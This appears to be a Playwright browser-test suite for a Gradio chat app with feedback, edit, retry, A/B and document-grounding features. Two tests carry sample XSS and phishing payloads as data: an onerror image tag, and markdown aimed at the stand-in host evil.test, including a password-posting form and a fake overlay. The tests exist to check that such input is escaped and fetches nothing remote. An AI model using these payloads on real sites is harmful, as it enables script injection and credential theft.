"""A real browser (Debian Chromium driven by playwright) against the running app: chat, templates, feedback."""
import json
import sqlite3
import time

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.browser]
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]


@pytest.fixture(scope="module")
def browser():
    import os

    if not os.path.exists(CHROMIUM):
        pytest.skip("Debian chromium is not installed (`make test` installs it)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture
def page(browser, app_server):
    pg = browser.new_page()
    pg.dialogs = []
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    pg.goto(app_server["url"])
    pg.wait_for_selector("#message textarea")
    yield pg
    pg.close()


def bot_text(page) -> str:
    bots = page.locator('[data-testid="bot"]')
    return bots.last.inner_text() if bots.count() else ""


# The answering event's outputs (#message, #status) carry gradio's .generating/.pending marks until it ends.
ANSWERING = "!!document.querySelector('#message .generating, #status .generating, #status .pending')"


def send(page, text, timeout=180):
    """Type a message, press Enter, and return every distinct text the answer bubble showed while streaming, once
    the answer has ended (gradio's progress marks on the event's outputs are gone, the box is empty, the text has
    stood still for half a second: a stall mid-stream on a busy machine is not taken for the end)."""
    before = page.locator('[data-testid="bot"]').count()
    page.fill("#message textarea", text)
    page.press("#message textarea", "Enter")
    seen, last_change, deadline = [], time.time(), time.time() + timeout
    while time.time() < deadline:
        if page.locator('[data-testid="bot"]').count() > before:
            t = bot_text(page)
            if t and (not seen or seen[-1] != t):
                seen.append(t)
                last_change = time.time()
            if (seen and time.time() - last_change > 0.5 and not page.evaluate(ANSWERING)
                    and page.locator("#message textarea").input_value() == ""):
                return seen
        page.wait_for_timeout(25)
    raise AssertionError(f"no complete answer within {timeout}s; saw {seen}")


def db_rows(app_server, sql, *args):
    with sqlite3.connect(app_server["db"]) as db:
        return db.execute(sql, args).fetchall()


def answer_to(app_server, question, timeout=240):
    """(conversation id, answer id, answer) of the stored answer to `question` (stored when the answer ends)."""
    deadline = time.time() + timeout
    while True:
        rows = db_rows(app_server, "select a.conversation_id, a.id, a.content from messages a join messages q "
                                   "on q.id = a.parent_id where a.role = 'assistant' and q.content = ? "
                                   "order by a.id desc limit 1", question)
        if rows:
            return rows[0]
        assert time.time() < deadline, f"no answer to {question!r} was stored"
        time.sleep(0.5)


def choose_template(page, name):
    page.click("#template input")
    page.locator(f'[role="option"]:has-text("{name}")').first.click()
    page.wait_for_timeout(300)


# every text the newest answer bubble shows, recorded in the page on each DOM change (polling from the test can
# miss the pieces of a short answer that llama.cpp streams in a few milliseconds)
RECORD_FRAMES = """() => { window.__frames = [];
  new MutationObserver(() => { const b = [...document.querySelectorAll('[data-testid="bot"]')].pop();
    const t = b ? b.innerText : ''; if (t && window.__frames[window.__frames.length - 1] !== t) window.__frames.push(t);
  }).observe(document.body, {childList: true, subtree: true, characterData: true}); }"""


def test_reply_streams_in_and_template_switch_takes_effect(page, app_server):
    page.evaluate(RECORD_FRAMES)
    seen = send(page, "Tell me about Paris, the capital of France.")
    frames = page.evaluate("window.__frames")
    assert len(frames) >= 2, f"the answer should appear piece by piece, saw {frames}"
    assert "Paris" in seen[-1] and frames[-1] == seen[-1]
    choose_template(page, "academic")
    page.wait_for_function("document.querySelector('#template input')?.value === 'academic'")
    send(page, "volcanoes")
    _, answer_id, content = answer_to(app_server, "volcanoes")  # stored when it ends (after the last frame)
    (template,), = db_rows(app_server, "select template from messages where id=?", answer_id)
    assert template == "academic" and content.strip() and content.strip()[:20] in bot_text(page)


def test_thumbs_down_with_reason_edit_retry_and_pick_are_stored(page, app_server):
    send(page, "Name a fruit.")
    (answer_id, original), = db_rows(app_server, "select id, content from messages where role='assistant' "
                                                "order by id desc limit 1")
    bot = page.locator('[data-testid="bot"]').last
    bot.hover()
    page.locator('[aria-label="Dislike"]').last.click()
    page.wait_for_selector("#why-panel", state="visible")
    page.locator("#reasons label:has-text('wrong')").click()
    page.fill("#comment textarea", "not a fruit")
    page.click("#why-save")
    page.wait_for_function("document.querySelector('#status')?.innerText.includes('Saved')")

    bot.hover()
    page.locator('[aria-label="Edit"]').last.click()
    page.fill(".edit-textarea", "An apple is a fruit.")
    page.locator('[aria-label="Submit"]').click()
    page.wait_for_function("document.querySelector('#status')?.innerText.includes('correction')")
    assert "An apple is a fruit." in bot_text(page)

    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Retry"]').last.click()
    page.wait_for_selector("#pick-row", state="visible", timeout=180_000)
    page.click("#pick-second")
    page.wait_for_function("document.querySelector('#status')?.innerText.includes('preferred')")

    ratings = db_rows(app_server, "select value, reasons, comment, user_id from ratings where message_id=?", answer_id)
    assert [(v, json.loads(r), c) for v, r, c, _ in ratings][-1] == (-1, ["wrong"], "not a fruit")
    edits = db_rows(app_server, "select original, edited from edits where message_id=?", answer_id)
    assert edits == [(original, "An apple is a fruit.")]
    (prompt_id, candidates, picked), = db_rows(
        app_server, "select prompt_message_id, candidates, picked_id from choices order by id desc limit 1")
    (parent,), = db_rows(app_server, "select parent_id from messages where id=?", answer_id)
    assert prompt_id == parent and answer_id in json.loads(candidates) and picked != answer_id
    (picked_parent, role), = db_rows(app_server, "select parent_id, role from messages where id=?", picked)
    assert (picked_parent, role) == (parent, "assistant")


def test_script_in_an_edit_is_shown_escaped_and_never_runs(page, app_server):
    send(page, "Say hello.")
    payload = "<img src=x onerror=alert(1)>"
    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Edit"]').last.click()
    page.fill(".edit-textarea", payload)
    page.locator('[aria-label="Submit"]').click()
    page.wait_for_function("document.querySelector('#status')?.innerText.includes('correction')")
    page.wait_for_timeout(1000)
    assert payload in bot_text(page)  # shown as text
    assert page.locator('#chatbot img[src="x"]').count() == 0
    assert page.dialogs == []
    assert db_rows(app_server, "select edited from edits order by id desc limit 1") == [(payload,)]


def test_ab_test_started_and_stopped_from_the_adapters_tab(page, app_server, base_model_dir, tmp_path):
    """An admin starts an A/B test of a registered version in the Adapters tab; the app attaches it; Stop ends it."""
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    from adapters import ab
    from adapters.registry import Registry
    from agent.settings import Settings

    base = AutoModelForCausalLM.from_pretrained(base_model_dir)
    get_peft_model(base, LoraConfig(r=4, target_modules=["q_proj", "v_proj"])).save_pretrained(tmp_path / "lora")
    reg = Registry(Settings(data_dir=app_server["data_dir"], base_model=str(base_model_dir)))
    version = reg.register(tmp_path / "lora", {"method": "sft"})
    page.get_by_role("tab", name="Adapters").click()
    page.get_by_role("button", name="Refresh").click()
    page.wait_for_function(f"document.body.innerText.includes('{version}')")
    page.get_by_role("button", name="Start A/B test of this version").click()
    page.wait_for_function(f"document.body.innerText.includes('A/B: {version} gets 20% of new conversations')")
    assert ab.read(reg) == {**ab.read(reg), "version": version, "share": 0.2}
    log = app_server["data_dir"] / "server.log"
    deadline = time.time() + 30
    while f"A/B: {version} gets 20%" not in log.read_text():  # the running app attached it for serving
        assert time.time() < deadline, log.read_text()[-2000:]
        time.sleep(1)
    page.get_by_role("button", name="Stop A/B test").click()
    page.wait_for_function("document.body.innerText.includes('no A/B test')")
    assert ab.read(reg) is None


HOSTILE_CHAT = ("Check these: \\`<img src=http://evil.test/bypass.png>` and ![pixel](http://evil.test/pixel.png) "
                "and \\`<form action=http://evil.test/f><input type=password name=pw></form>` "
                "\\`<div id=overlay style=\"position:fixed;inset:0;background:red;z-index:9999\">owned</div>` "
                "<img src=x onerror=\"window.__pwned=1\"> <script>window.__pwned=1</script> "
                "[click](http://evil.test/link) http://evil.test/auto www.evil.test me@evil.test `code <b>ok</b>`")


def test_hostile_markdown_in_chat_fetches_nothing_remote_and_runs_no_script(browser, app_server):
    """Every request the page makes is intercepted: none may leave the app's own origin. The message bubble holds no
    image, form, input, link, frame or overlay, and no script ran."""
    from urllib.parse import urlparse

    own = urlparse(app_server["url"]).netloc
    foreign = []
    pg = browser.new_page()
    pg.dialogs = []
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))

    def intercept(route):
        if urlparse(route.request.url).netloc not in (own, ""):
            foreign.append(route.request.url)
            return route.abort()
        return route.continue_()

    pg.route("**/*", intercept)
    try:
        pg.goto(app_server["url"])
        pg.wait_for_selector("#message textarea")
        send(pg, HOSTILE_CHAT)
        pg.wait_for_timeout(1000)
        bubble = pg.locator('[data-testid="user"]').last
        assert "owned" in bubble.inner_text() and "evil.test/bypass.png" in bubble.inner_text()  # shown as text
        for selector in ("img", "form", "input", "a", "iframe", "script", "[style*=fixed]", "#overlay"):
            assert bubble.locator(selector).count() == 0, selector
        assert bubble.locator("code").count() >= 1  # real code still renders as code
        assert pg.evaluate("window.__pwned") is None and pg.dialogs == []
        assert foreign == [], foreign
    finally:
        pg.close()
def status_has(page, text, timeout=30_000):
    page.wait_for_function(f"document.querySelector('#status')?.innerText.includes({json.dumps(text)})",
                           timeout=timeout)


def test_thumb_down_taken_back_then_up_is_one_net_plus_one(page, app_server, tmp_path):
    """👎 opens the reason panel; un-clicking it closes the panel and stores a retraction; 👍 then is the one
    rating the dataset holds for that answer."""
    from feedback.datasets import build_datasets, kto_rows
    from feedback.store import Store

    send(page, "Name a colour.")
    (answer_id,), = db_rows(app_server, "select id from messages where role='assistant' order by id desc limit 1")
    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Dislike"]').last.click()
    page.wait_for_selector("#why-panel", state="visible")
    status_has(page, "👎")
    page.locator('[aria-label="Disliked"]').last.click()  # un-click
    status_has(page, "taken back")
    page.wait_for_selector("#why-panel", state="hidden")
    page.locator('[aria-label="Like"]').last.click()
    status_has(page, "👍")
    assert [v for v, in db_rows(app_server, "select value from ratings where message_id=? order by id",
                                answer_id)] == [-1, 0, 1]
    page.screenshot(path=str(tmp_path / "thumbs.png"))
    store = Store(app_server["db"])
    try:
        events = store.training_events()
    finally:
        store.close()
    ours = {f"rating:{i}" for i, in db_rows(app_server, "select id from ratings where message_id=?", answer_id)}
    kto = [r for r in kto_rows(events) if ours & set(r["source"])]
    assert [(r["label"], r["source"]) for r in kto] == [(True, [max(ours, key=lambda s: int(s.split(":")[1]))])]
    _, manifest = build_datasets(events, eval_fraction=0.0)
    assert manifest["events"]["retracted_ratings"] == 0  # the retraction itself was superseded by the 👍


def test_retry_shows_two_different_answers_and_the_pick_stores_them(page, app_server, tmp_path):
    send(page, "Suggest a name for a cat.")
    (first_id, first), = db_rows(app_server, "select id, content from messages where role='assistant' "
                                             "order by id desc limit 1")
    assert page.locator("#pick-row").is_hidden()  # one answer on screen: nothing to pick
    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Retry"]').last.click()
    page.wait_for_selector("#pick-row", state="visible", timeout=180_000)
    one, two = page.inner_text("#pick-first-text"), page.inner_text("#pick-second-text")
    page.screenshot(path=str(tmp_path / "pick.png"))
    assert one.strip() and two.strip() and " ".join(one.split()).lower() != " ".join(two.split()).lower()
    assert " ".join(first.split())[:30] in " ".join(one.split())
    page.reload()  # a reload before the pick offers the same two answers again
    page.wait_for_selector("#pick-row", state="visible", timeout=60_000)
    assert (page.inner_text("#pick-first-text"), page.inner_text("#pick-second-text")) == (one, two)
    page.click("#pick-first")
    status_has(page, "preferred")
    assert page.locator("#pick-row").is_hidden()
    (candidates, picked), = db_rows(app_server, "select candidates, picked_id from choices order by id desc limit 1")
    ids = json.loads(candidates)
    assert picked == first_id and first_id in ids and len(ids) == 2
    texts = [t for t, in db_rows(app_server, f"select content from messages where id in ({ids[0]}, {ids[1]})")]
    assert " ".join(texts[0].split()).lower() != " ".join(texts[1].split()).lower()


def stored_answer(app_server, after_id, timeout=240):
    """(id, sources) of the first answer stored after message `after_id` (an answer is stored when it ends)."""
    deadline = time.time() + timeout
    while True:
        rows = db_rows(app_server, "select id, sources from messages where role='assistant' and id > ? "
                                   "order by id limit 1", after_id)
        if rows:
            return rows[0]
        assert time.time() < deadline, "no answer was stored"
        time.sleep(0.5)


def test_sources_note_is_never_edited_and_an_edited_question_is_asked_again(page, app_server, tmp_path):
    doc = tmp_path / "kettle.txt"
    doc.write_text("The Brightwave kettle has a warranty of three years. The warranty covers the heating element "
                   "and the lid hinge. It does not cover damage from dropping the kettle.\n")
    page.get_by_role("tab", name="Documents").click()
    page.set_input_files("#docs-upload input[type=file]", str(doc))
    page.wait_for_function("document.querySelector('#docs-status')?.innerText.includes('added')", timeout=120_000)
    page.get_by_role("tab", name="Chat").click()
    page.locator("#rag label:has-text('on')").click()
    (before,), = db_rows(app_server, "select coalesce(max(id), 0) from messages")
    send(page, "How long is the warranty of the Brightwave kettle?")
    answer_id, sources = stored_answer(app_server, before)
    assert "kettle.txt" in sources
    page.wait_for_selector('#chatbot :text("Sources")')
    page.wait_for_timeout(1000)
    # the grounded answer's bubble keeps its copy button beside the question's (a component note took it away)
    assert page.locator('#chatbot [aria-label="Copy message"]').count() == 2
    page.screenshot(path=str(tmp_path / "grounded.png"))

    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Edit"]').last.click()
    assert page.locator(".edit-textarea:visible").count() == 1  # the answer only: the Sources note has no text area
    assert page.locator(".edit-textarea:visible").bounding_box()["width"] >= 300  # room to correct (Gradio: 160 px)
    page.screenshot(path=str(tmp_path / "edit-grounded.png"))
    page.fill(".edit-textarea:visible", "Three years.")
    page.locator('[aria-label="Submit"]').click()
    status_has(page, "correction")
    page.wait_for_timeout(1500)  # the note's own edit event (ignored) has arrived by now
    assert "sources note" not in page.inner_text("#status") and "⚠️" not in page.inner_text("#status")
    assert db_rows(app_server, "select message_id, edited from edits order by id desc limit 1") == [
        (answer_id, "Three years.")]
    page.wait_for_selector('#chatbot :text("Sources")')  # still shown under the answer
    page.locator('#chatbot :text("Sources")').last.click()  # opens: the note lists the file
    page.wait_for_function("document.querySelector('#chatbot')?.innerText.includes('kettle.txt')")
    page.wait_for_timeout(1500)
    page.screenshot(path=str(tmp_path / "sources-open.png"))

    (old_q, old_parent), = db_rows(app_server, "select id, parent_id from messages where role='user' "
                                               "order by id desc limit 1")
    question = page.locator('[data-testid="user"]').last
    question.hover()
    # the Edit button of the question's own bubble: the nearest enclosing element that holds one
    question.locator('xpath=ancestor::*[.//button[@aria-label="Edit"]][1]').locator('[aria-label="Edit"]').first.click()
    assert page.locator(".edit-textarea").count() == 1
    assert "Brightwave kettle?" in page.locator(".edit-textarea").input_value()
    page.fill(".edit-textarea", "What does the Brightwave kettle warranty cover?")
    page.locator('[aria-label="Submit"]').click()
    deadline = time.time() + 180
    while True:
        rows = db_rows(app_server, "select m.id, m.parent_id, m.content from messages m where m.role='assistant' "
                                   "and m.parent_id = (select max(id) from messages where role='user')")
        if rows and rows[0][0] > answer_id:
            break
        assert time.time() < deadline, "no answer to the edited question"
        page.wait_for_timeout(500)
    (new_q, new_parent, content), = db_rows(app_server, "select id, parent_id, content from messages "
                                                        "where role='user' order by id desc limit 1")
    assert content == "What does the Brightwave kettle warranty cover?" and new_q > old_q
    assert new_parent == old_parent  # a new branch beside the old question
    page.wait_for_function("document.querySelectorAll('[data-testid=\"user\"]').length >= 1")
    page.wait_for_timeout(3000)
    assert "What does the Brightwave kettle warranty cover?" in page.locator('[data-testid="user"]').last.inner_text()
    assert "⚠️" not in page.inner_text("#status")
    page.screenshot(path=str(tmp_path / "reasked.png"))


def test_feedback_tab_lists_reasons_and_names_the_base_model(page, app_server, tmp_path):
    send(page, "Name a vegetable.")
    page.locator('[data-testid="bot"]').last.hover()
    page.locator('[aria-label="Dislike"]').last.click()
    page.wait_for_selector("#why-panel", state="visible")
    page.locator("#reasons label:has-text('too long')").click()
    page.fill("#comment textarea", "say it in one word")
    page.click("#why-save")
    status_has(page, "Saved")
    page.get_by_role("tab", name="Feedback").click()
    page.wait_for_function("document.body.innerText.includes('say it in one word')", timeout=60_000)
    body = page.inner_text("body")
    assert "Latest reasons and comments" in body and "too long" in body
    assert "(none)" not in body
    page.wait_for_timeout(1500)  # plots drawn
    page.screenshot(path=str(tmp_path / "feedback-tab.png"), full_page=True)


def test_a_cut_off_answer_says_so_and_continue_extends_it(page, app_server, tmp_path):
    """The app under test caps answers at 40 tokens: a long answer is cut off, says so, and Continue goes on."""
    (before,), = db_rows(app_server, "select coalesce(max(id), 0) from messages")
    send(page, "Write a long story about a dragon who learns to bake bread.")
    first_id, _ = stored_answer(app_server, before)
    (first, tokens), = db_rows(app_server, "select content, completion_tokens from messages where id=?", first_id)
    assert tokens == 40
    status_has(page, "cut off at 40 tokens")
    page.wait_for_selector("#continue", state="visible")
    page.click("#continue")
    second_id, _ = stored_answer(app_server, first_id)
    (second, parent), = db_rows(app_server, "select content, parent_id from messages where id=?", second_id)
    (first_parent,), = db_rows(app_server, "select parent_id from messages where id=?", first_id)
    assert second.startswith(first) and len(second) > len(first) and parent == first_parent
    page.wait_for_timeout(2000)
    shown = " ".join(bot_text(page).split())
    assert " ".join(second.split())[-20:] in shown
    assert page.locator('[data-testid="bot"]').count() >= 1 and shown.count(" ".join(first.split())[:30]) == 1
    page.screenshot(path=str(tmp_path / "continued.png"))


def test_phone_layout_keeps_the_message_box_and_reason_panel_on_screen(browser, app_server, tmp_path):
    pg = browser.new_page(viewport={"width": 390, "height": 844})
    try:
        pg.goto(app_server["url"])
        pg.wait_for_selector("#message textarea")
        pg.wait_for_function("!document.querySelector('#history-sidebar').classList.contains('open')")
        pg.screenshot(path=str(tmp_path / "chat-390.png"))
        box = pg.locator("#message textarea").bounding_box()
        assert box["y"] + box["height"] <= 844, box
        # the message box has its own line; Send, Stop and New chat share the one under it, all on screen
        buttons = [pg.locator(f"#{b}").bounding_box() for b in ("send", "stop", "new-chat")]
        assert len({round(b["y"]) for b in buttons}) == 1 and buttons[0]["y"] >= box["y"] + box["height"], buttons
        assert all(b["y"] + b["height"] <= 844 and b["height"] < 60 for b in buttons), buttons  # one line of text
        assert box["width"] >= 280, box
        send(pg, "Name a vegetable.")
        (answer_id,), = db_rows(app_server, "select max(id) from messages where role='assistant'")
        pg.locator('[data-testid="bot"]').last.hover()
        pg.locator('[aria-label="Dislike"]').last.click()
        pg.wait_for_selector("#why-panel", state="visible")
        pg.wait_for_timeout(500)
        pg.screenshot(path=str(tmp_path / "reasons-390.png"))
        panel = pg.locator("#why-save").bounding_box()
        assert 0 <= panel["y"] and panel["y"] + panel["height"] <= 844, panel
        # the sheet covers the message box: Close puts it away, and the 👎 it belongs to stays stored, once
        pg.click("#why-close")
        pg.wait_for_selector("#why-panel", state="hidden")
        assert pg.locator("#message textarea").is_visible()
        assert db_rows(app_server, "select value from ratings where message_id=?", answer_id) == [(-1,)]
    finally:
        pg.close()
